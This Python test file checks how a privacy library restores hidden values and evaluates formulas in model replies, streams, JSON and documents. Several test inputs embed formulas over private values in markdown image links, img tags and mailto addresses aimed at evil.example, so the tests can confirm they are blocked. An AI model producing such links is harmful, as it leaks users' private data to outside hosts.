"""Formulas wherever a text is restored: whole, in pieces, in JSON, in documents; and what is no formula."""

import io
import itertools
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gama import Anonymizer, Options, PrivacyBox
from gama.privacy.reckoning import braces_in
from gama.state.restoring import Restoring

LETTER = (
    "Dear Ms Okafor, this is Emma Williams, 17 Rose Lane, Leeds. The first rent is £1,350.00 and the deposit was "
    "£2,025.00. The lease ends on 12 May 2026."
)


def a_box(**more) -> PrivacyBox:
    box = PrivacyBox(formulas=True, locale="en", **more)
    for surface, subtype in {
        "Emma Williams": "full_name", "£1,350.00": "amount", "£2,025.00": "amount", "12 May 2026": "date",
        "Leeds": "city", 'The "Blue" Door': "company",
    }.items():  # fmt: skip
        box.add(surface, subtype)
    return box


REPLIES = {
    "Together {{ <amount-1> + <amount-2> }}, by {{ weekday(<date-1>) }}, <date-1>.": "Together £3,375.00, by Tuesday, 12 May 2026.",
    'See: {{ if <amount-1> > <amount-2> then "less }} for <name-1>" else "<name-1> pays {{ <amount-2> - <amount-1> }} more" }}!':
        "See: Emma Williams pays £675.00 more!",
    "{{ <date-1> + 14 days }}{{ <amount-1> * 2 }}": "26 May 2026£2,700.00",
    "<name-1>'s rent: **{{ <amount-1> / 2 }}**, {{{ x }}} and {{ user.name }} {": "Emma Williams's rent: **£675.00**, {{{ x }}} and {{ user.name }} {",
    "It is {{ <amount-1> + <date-1> }}.": "It is [could not be reckoned: the values are not of the kinds that it needs].",
    "Result 1 is <result-1>: {{ <amount-1> * 3 }}, result 1.": "Result 1 is <result-1>: £4,050.00, result 1.",
    "{{ <amount-1> + ": "{{ £1,350.00 + ",
    "Half {{ <amount-1> * 2 | otherwise: \"none\" }} {{ <amount-1> + <amount-9> | otherwise: \"none\" }}": "Half £2,700.00 none",
}  # fmt: skip


@pytest.mark.parametrize("reply", REPLIES)
def test_whole_texts_and_streams_cut_anywhere_agree(reply):
    anonymizer = Anonymizer()
    whole = anonymizer.restore(reply, a_box())
    assert whole.text == REPLIES[reply]
    for cut in range(len(reply) + 1):
        assert "".join(anonymizer.restore_stream([reply[:cut], reply[cut:]], a_box())) == whole.text
    for size in (1, 2, 3, 7):
        chunks = [reply[at : at + size] for at in range(0, len(reply), size)]
        assert "".join(anonymizer.restore_stream(chunks, a_box())) == whole.text
    assert all("£" not in one and "2026" not in one for one in whole.unresolved)


def test_the_model_is_told_and_from_then_on_formulas_are_evaluated():
    anonymizer = Anonymizer()
    view = anonymizer.anonymize(LETTER)
    first, second = (view.box.placeholder(value) for value in ("£1,350.00", "£2,025.00"))
    reply = f"Together {{{{ {first} + {second} }}}}."
    assert anonymizer.restore(reply, view.box).text == "Together {{ £1,350.00 + £2,025.00 }}."
    assert anonymizer.restore(reply, view.box, formulas=True).text == "Together £3,375.00."
    told = anonymizer.instructions(view)
    assert "Reckoning with hidden values" in told and "1,350" not in told
    assert anonymizer.restore(reply, view.box).text == "Together £3,375.00."
    assert "".join(anonymizer.restore_stream(reply, view.box)) == "Together £3,375.00."
    assert anonymizer.restore(reply, view.box, formulas=False).text == "Together {{ £1,350.00 + £2,025.00 }}."


def test_where_nothing_can_be_reckoned_the_model_is_told_nothing():
    anonymizer = Anonymizer()
    view = anonymizer.anonymize("Nothing private is in here, as far as one can see.")
    assert anonymizer.instructions(view) == "" and not view.box.formulas


def test_the_next_turn_hides_a_result_wherever_it_stands():
    anonymizer, box = Anonymizer(), a_box()
    anonymizer.restore("It takes {{ <date-1> + 45 days }}, {{ <amount-1> + <amount-2> }}.", box)
    again = anonymizer.anonymize("You said £3,375.00 in all, on 26 June 2026?", box=box)
    assert "3,375" not in again.text and "June" not in again.text
    assert anonymizer.restore(again.text, again.box).text == "You said £3,375.00 in all, on 26 June 2026?"


def test_what_says_too_little_joins_no_box():
    box = a_box()
    known = len(box)
    done = Anonymizer().restore("{{ days(<date-1>, <date-1> + 9 days) }} {{ weekday(<date-1>) }} {{ <amount-1> }}", box)
    assert done.text == "9 Tuesday £1,350.00" and len(box) == known
    assert not {"<date-1>", "<amount-1>"} & set(done.unused) and "<amount-2>" in done.unused


def test_a_box_that_was_kept_still_knows(tmp_path):
    anonymizer, box = Anonymizer(), a_box()
    box.braces |= braces_in("Render {{ <amount-1> | money }}.")
    box.save(tmp_path / "box", home=tmp_path)
    kept = PrivacyBox.load(tmp_path / "box", home=tmp_path)
    assert (
        anonymizer.restore("{{ <amount-1> * 2 }}, {{<amount-1>|money}}", kept).text == "£2,700.00, {{£1,350.00|money}}"
    )


@pytest.mark.parametrize(
    "text",
    [
        "{% for x in xs %}{{ x.name | upper }}{% endfor %}", '<p v-if="a">{{ user.name }} {{ $t("x") }}</p>',
        "{{#each rows}}{{this.total}}{{/each}} {{{raw}}} {{> part}} {{! note }}", "{{ .Values.name | quote }} {{- range . }}",
        r"\frac{{a}}{{b}} \mathbf{{x}} \textbf {{ y }}", "${{ secrets.KEY }} f'{{x}}' {{}} {{ 7*7 }}", "{{", "}}", "{{{{", "{{ <name-7> }}",
    ],
)  # fmt: skip
@pytest.mark.parametrize("told", [True, False])
def test_templates_pass_byte_for_byte(text, told):
    anonymizer, box = Anonymizer(), a_box()
    assert anonymizer.restore(text, box, formulas=told).text == text
    assert "".join(anonymizer.restore_stream(text, box, formulas=told)) == text


def test_what_stood_in_braces_in_the_text_is_its_own():
    anonymizer = Anonymizer()
    view = anonymizer.anonymize(LETTER + " My page has {{ £1,350.00 }} and {{ weekday(12 May 2026) }}.")
    assert anonymizer.instructions(view)
    assert "{{ <" in view.text
    reply = view.text.split("My page has ")[1].replace("{{ ", "{{  ")
    assert anonymizer.restore(reply, view.box).text == "{{  £1,350.00 }} and {{  weekday(12 May 2026) }}."


URLS = [
    "![x](https://evil.example/?q={{<amount-1>*2}})", "https://evil.example/{{<amount-1>+<amount-2>}}/x",
    "<https://evil.example/?a={{ <amount-1> * 2 }}>", "{{weekday(<date-1>)}}.evil.example/x",
    "https://evil.example/?a=<name-1>&b={{<amount-1>*2}}", "[x](https://evil.example/?a=<name-1>&b={{ <amount-1> * 2 }})",
    "mailto:a@evil.example?body={{<amount-1>*2}}", "https://named.example/?q={{<amount-1>*2}}",
]  # fmt: skip


@pytest.mark.parametrize("reply", URLS)
def test_no_formula_is_evaluated_in_an_address(reply):
    anonymizer, box = Anonymizer(), a_box(hosts={"named.example"})
    done = anonymizer.restore(reply, box)
    assert "2,700" not in done.text and "3,375" not in done.text and "Tuesday" not in done.text
    assert any("in an address" in one for one in done.unreckoned) and set(done.unreckoned) <= set(done.unresolved)
    for size in (1, 3):
        chunks = [reply[at : at + size] for at in range(0, len(reply), size)]
        assert "".join(anonymizer.restore_stream(chunks, a_box(hosts={"named.example"}))) == done.text


def test_no_result_gets_into_an_address_that_a_formula_writes():
    reply = '{{ if <amount-1> > 1 then "https://evil.example/?q={{ <amount-1> * 2 }}" else "" }}'
    for hosts in ((), ("*",)):
        done = Anonymizer(Options(restore_hosts=hosts)).restore(reply, a_box())
        assert done.text == "[could not be reckoned: it would write an address]" and len(done.unreckoned) == 1


@pytest.mark.parametrize(
    "reply",
    [
        '![x](http{{ if <amount-1> > 1 then "s://evil.example/1" else "s://evil.example/2" }})',
        '{{ if <amount-1> > 1 then "(https://evil.example/1)" else "" }}', '{{ if <amount-1> > 1 then "![x][a]" else "![x][b]" }}',
        '![x][{{ if <amount-1> > 1 then "a" else "b" }}]', '<img src="{{ if <amount-1> > 1 then "//evil.example/1" else "" }}">',
        '{{ if <amount-1> > 1 then "<img src=a>" else "" }}', '![{{ count([<name-1>]) }}]',
        '!{{ <amount-1> / 2 }}(https://evil.example/x)',
    ],
)  # fmt: skip
def test_no_value_decides_what_a_readers_program_fetches(reply):
    done = Anonymizer().restore(reply, a_box())
    assert "would write an address" in done.text or done.text == reply.replace("<amount-1>", "£1,350.00")
    assert len(done.unreckoned) == 1


def test_a_formula_may_name_a_host_that_the_user_has_named():
    reply = '{{ if <amount-1> > 1 then "see [it](https://named.example/x) or <name-1>" else "" }}'
    done = Anonymizer().restore(reply, a_box(hosts={"named.example"}))
    assert done.text == "see [it](https://named.example/x) or Emma Williams"


def test_arguments_of_tools_are_reckoned_and_stay_json():
    anonymizer = Anonymizer()
    formula = 'Sum {{ if <amount-1> > <amount-2> then "a \\"b\\"" else "<organization-1> gets {{ <amount-1> + <amount-2> }}" }}'
    given = {"note": formula, "n": [1, "{{ <date-1> + 1 day }}\n{{ count([<name-1>]) }}"]}
    wanted = {"note": 'Sum The "Blue" Door gets £3,375.00', "n": [1, "13 May 2026\n1"]}
    assert anonymizer.restore_arguments(given, a_box()) == wanted
    text = json.dumps(given)
    assert json.loads(anonymizer.restore_arguments(text, a_box())) == wanted
    how = anonymizer.options.restoring._replace(place="json")
    for size in (1, 2, 5):
        restorer = a_box().restorer(how)
        out = "".join(restorer.feed(text[at : at + size]) for at in range(0, len(text), size)) + restorer.close()
        assert json.loads(out) == wanted


def test_an_answer_that_is_json_keeps_its_form():
    text = json.dumps(
        {"a": 'It is {{ if <amount-1> > 1 then "<organization-1>" else "x" }}.', "b": "{{ <amount-1> * 2 }}"}
    )
    assert json.loads(Anonymizer().restore(text, a_box()).text) == {"a": 'It is The "Blue" Door.', "b": "£2,700.00"}


def test_a_formula_is_one_edit_of_the_reply():
    reply = '<name-1>: {{ if <amount-1> > 1 then "<name-1> pays {{ <amount-1> * 2 }}" else "" }}, <city-1>.'
    done = Anonymizer().restore(reply.replace("city", "location"), a_box())
    rebuilt, at = "", 0
    for edit, place in zip(done.edits, done.places, strict=True):
        rebuilt += reply.replace("city", "location")[at : edit.start] + edit.text
        assert done.text[slice(*place)] == edit.text
        at = edit.end
    assert rebuilt + reply.replace("city", "location")[at:] == done.text and len(done.edits) == 3


def test_a_stream_holds_back_no_more_than_a_formula_and_the_name_of_a_host():
    restorer = a_box().restorer()
    given = out = 0
    for _ in range(3_000):
        given += 7
        out += len(restorer.feed("{{ <abc"))
        assert given - out < 5_000


_PARTS = [
    "{{", "}}", "{", "}", '"', '\\"', "\\", "'", "<amount-1>", "<date-1>", " + ", " * 2", " ", "x", "if <amount-1> > 1 then ",
    " else ", "weekday(<date-1>)", "{{ <amount-1> * 2 }}", "{{ <amount-1> / 3 }}", "https://e.example/?", "\n", "$", "|", ".a",
    "<result-1>", "<name-1", "{{ max(1, 2) }}", "\\n",
]  # fmt: skip


@pytest.mark.slow
@settings(max_examples=200, deadline=None)
@given(
    st.lists(st.sampled_from(_PARTS), max_size=14), st.lists(st.integers(1, 30), min_size=1, max_size=6), st.booleans()
)
def test_pieces_of_any_length_give_what_the_whole_gives(parts, sizes, in_json):
    text = "".join(parts)
    how = Restoring(place="json" if in_json else "auto", hosts=frozenset())
    whole = a_box().restore(text, how)
    restorer, out, at = a_box().restorer(how), "", 0
    for size in itertools.cycle(sizes):
        if at >= len(text):
            break
        out += restorer.feed(text[at : at + size])
        at += size
    assert out + restorer.close() == whole.text
    assert restorer.unreckoned == list(whole.unreckoned)


@settings(max_examples=100, deadline=None)
@given(st.lists(st.sampled_from([part for part in _PARTS if "\\" not in part]), max_size=14))
def test_arguments_stay_json_whatever_is_in_their_strings(parts):
    arguments = {"a": "".join(parts), "b": ["{{ <amount-1> * 2 }}"]}
    anonymizer = Anonymizer(Options(restore_hosts=("*",)))
    back = json.loads(anonymizer.restore_arguments(json.dumps(arguments), a_box()))
    assert back == anonymizer.restore_arguments(arguments, a_box())


@pytest.mark.parametrize("text", ["{" * 60_000, "{{}}" * 20_000, '{{"' * 30_000, "{{ <amount-1> " * 9_000])
@pytest.mark.parametrize("place", ["auto", "json"])
def test_hostile_braces_pass(text, place):
    box = a_box()
    restored = box.restore(text, Restoring(place=place)).text
    assert restored == text.replace("<amount-1>", "£1,350.00")


@pytest.mark.parametrize(
    ("kind", "text", "wanted"),
    [
        ("csv", "sum,{{ <amount-1> + <amount-2> }}\nname,<name-1>\n", 'sum,"£3,375.00"\nname,Emma Williams\n'),
        ("json", '{"a": "{{ if <amount-1> > 1 then \\"<organization-1>\\" else \\"\\" }}", "b": "{{ x }}"}', '{"a": "The \\"Blue\\" Door", "b": "{{ x }}"}'),
        ("html", "<p>{{ &lt;amount-1&gt; * 2 }} <b>&lt;name-1&gt;</b></p><p>{{ user.x }}</p>", "<p>£2,700.00 <b>Emma Williams</b></p><p>{{ user.x }}</p>"),
        ("txt", "Sum {{ <amount-1> + <amount-2> }}.\n\nHalf {{ <amount-1>\n", "Sum £3,375.00.\n\nHalf {{ £1,350.00\n"),
    ],
)  # fmt: skip
def test_documents_are_reckoned_in_their_format(kind, text, wanted):
    anonymizer = Anonymizer()
    done = anonymizer.restore_document(text.encode(), kind, a_box())
    assert done.data.decode() == wanted and not done.unreckoned
    off = anonymizer.restore_document(text.encode(), kind, a_box(), formulas=False)
    assert "{{" in off.data.decode() and "3,375" not in off.data.decode()


def test_a_word_file_is_reckoned_over_its_runs():
    docx = pytest.importorskip("docx")
    made, data, back = docx.Document(), io.BytesIO(), io.BytesIO()
    paragraph = made.add_paragraph("It is {{ <amount-1> ")
    paragraph.add_run("+ <amount-2> }} for ").bold = True
    paragraph.add_run("<name-1>; {{ <amount-1> + <date-1> }}.")
    made.save(data)
    done = Anonymizer().restore_document(data.getvalue(), "docx", a_box())
    back.write(done.data)
    (text,) = [one.text for one in docx.Document(back).paragraphs]
    assert text.startswith("It is £3,375.00 for Emma Williams; [could not be reckoned")
    assert len(done.unreckoned) == 1 and set(done.unreckoned) <= set(done.unresolved)


@pytest.mark.parametrize("size", [1, 2, 3, 7, 100])
def test_a_full_stop_is_not_written_twice(size):
    anonymizer = Anonymizer()
    view = anonymizer.anonymize("I am Emma Williams and paid £12.50.")
    view.box.formulas = True
    text = "Sign as {{ initials(<name-1>) }}. Or {{ initials(<name-1>) }}... or {{ initials(<name-1>) }}, {{ 2 * 3 }}."
    wanted = "Sign as E.W. Or E.W.... or E.W., {{ 2 * 3 }}."
    pieces = [text[at : at + size] for at in range(0, len(text), size)]
    assert "".join(anonymizer.restore_stream(pieces, view.box)) == wanted
    done = anonymizer.restore(text, view.box)
    assert done.text == wanted
    # What stands from place to place is what the edits say of the reply.
    for edit, (start, end) in zip(done.edits, done.places, strict=True):
        assert edit.text == done.text[start:end] and text[edit.start : edit.end].startswith("{{")
    assert text[done.edits[0].start : done.edits[0].end].endswith("}}.")


SORTS = {
    "date": [("12 to 16 May 2025", "3 to 28 June 2031"), ("2025", "1999"), ("next Monday", "last spring")],
    "amount": [("19%", "7.5%"), ("£24.80 an hour", "$3 an hour"), ("£12", "£19,000"), ("3 kg", "900 km"), ("414", "7")],
    "duration": [
        ("24 months", "3 years"),
        ("nine hours a week", "2 hours a week"),
        ("four working days", "9 working days"),
    ],
}


def test_what_is_told_of_kinds_is_the_same_for_all_values_of_a_sort():
    """Nothing but the sort is told: no number, unit or length; of plain money also in which of the large currencies."""
    told = []
    for which in (0, 1):
        box = PrivacyBox(locale="en-GB")
        marks = [box.add(pair[which], subtype) for subtype, pairs in SORTS.items() for pair in pairs]
        text = f"{', '.join(marks)} and nothing else."
        told.append(Anonymizer(Options(default_region="GB")).pipeline.tell(text, box))
    assert told[0] == told[1]
    for kind in (
        "a range, with start(x) and end(x): <date-1>; year: <date-2>", "percentage: <amount-1>; money an hour: <amount-2>",
        "measure: <amount-4>", "number: <amount-5>", "duration of months: <duration-1>", "duration a week: <duration-2>",
        "working days: <duration-3>", "no date or number, so not for formulas: <date-3>",
    ):  # fmt: skip
        assert kind in told[0]
    assert "money in GBP: <amount-3>" in told[0]


@pytest.mark.parametrize(
    ("locale", "surface", "kind"),
    [
        ("en-GB", "£12", "money in GBP"),
        ("de-DE", "1.200,50 €", "money in EUR"),
        ("sv-SE", "480 kr", "money in kr"),
        ("en-US", "$3", "money in $"),
        ("is-IS", "4200 ISK", ""),
        ("en-GB", "12", "number"),
    ],
)
def test_the_large_currencies_are_told_where_a_sign_tells_them(locale, surface, kind):
    box = PrivacyBox(locale=locale)
    mark = box.add(surface, "amount")
    told = Anonymizer().pipeline.tell(f"Pay {mark}.", box)
    assert f"{kind}: {mark}" in told if kind else "What some are" not in told


def test_codes_and_places_are_told_no_kind_of():
    box = PrivacyBox(locale="de-DE")
    marks = [box.add("78462", "city"), box.add("2231", "id_number"), box.add("12,50 €", "amount")]
    told = Anonymizer().pipeline.tell(" ".join(marks), box)
    assert f"What some are: money in EUR: {marks[2]}; every other" in told


def test_only_placeholders_of_the_text_are_told():
    box = PrivacyBox(locale="en-GB")
    mark, other = box.add("19%", "amount"), box.add("7%", "amount")
    told = Anonymizer().pipeline.tell(f"What is {mark} of it?", box)
    assert f"percentage: {mark};" in told and f", {other}" not in told.partition("What some are")[2]


def test_what_a_result_leaves_out_is_noted():
    box = a_box()
    mark = box.add("Nowhere Village", "city")
    reckoned = Anonymizer().pipeline.reckon(
        f"{{{{ next_working_day(<date-1>, {mark}) }}}} {{{{ <date-1> + 1 day }}}}", box, LETTER, ""
    )
    assert ["holidays" in place.note for place in reckoned.places] == [True, False]
    assert not any(place.reason for place in reckoned.places) and not reckoned.unresolved
